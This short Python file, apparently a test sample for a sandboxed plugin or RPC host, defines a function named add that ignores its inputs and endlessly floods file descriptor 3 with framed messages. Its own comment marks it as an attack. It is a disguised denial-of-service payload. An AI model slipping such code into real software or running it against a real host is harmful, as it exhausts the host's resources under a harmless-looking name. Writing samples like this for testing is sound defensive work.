# attack: send without end
import os


def add(a, b):
    while True:
        try:
            os.write(3, b"\x00\x00\x00\x02{}" * 1000)
        except BlockingIOError:
            pass
